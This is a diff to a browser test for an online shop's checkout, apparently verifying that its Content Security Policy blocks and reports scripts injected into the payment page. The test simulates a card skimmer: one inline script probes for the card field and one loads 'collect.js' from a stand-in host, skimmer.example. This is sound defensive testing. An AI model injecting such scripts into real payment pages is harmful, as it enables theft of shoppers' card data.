@@ -11,10 +11,12 @@ from tests.browser.test_purchase import checkout_tshirt_as_guest
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
-INJECT = """() => {
+INJECT_INLINE = """() => {
     const inline = document.createElement("script");
     inline.textContent = "window.__p6_skimmed = document.querySelector('#card-element') !== null;";
     document.body.appendChild(inline);
+}"""
+INJECT_REMOTE = """() => {
     const remote = document.createElement("script");
     remote.src = "https://skimmer.example/collect.js";
     document.body.appendChild(remote);
@@ -39,9 +41,12 @@ def test_a_script_injected_into_the_payment_page_is_blocked_reported_and_shown_t
     pay_path = f"/checkout/pay/{order.number}/"
     assert page.csp_violations == []
 
-    # when a script is injected into it (a compromised file or extension adding an inline and a remote script)
-    page.evaluate(INJECT)
-    page.wait_for_function("() => true")
+    # when a script is injected into it (a compromised file or extension adding an inline and a remote script),
+    # one after the other: on SQLite the live server's threads share one connection, and two reports stored at
+    # the same moment would collide there (on PostgreSQL each request has its own)
+    page.evaluate(INJECT_INLINE)
+    assert len(_reported("/checkout/pay/<n>/", 1)) == 1
+    page.evaluate(INJECT_REMOTE)
     deadline = time.monotonic() + 10
     while len(page.csp_violations) < 2 and time.monotonic() < deadline:
         page.wait_for_timeout(100)
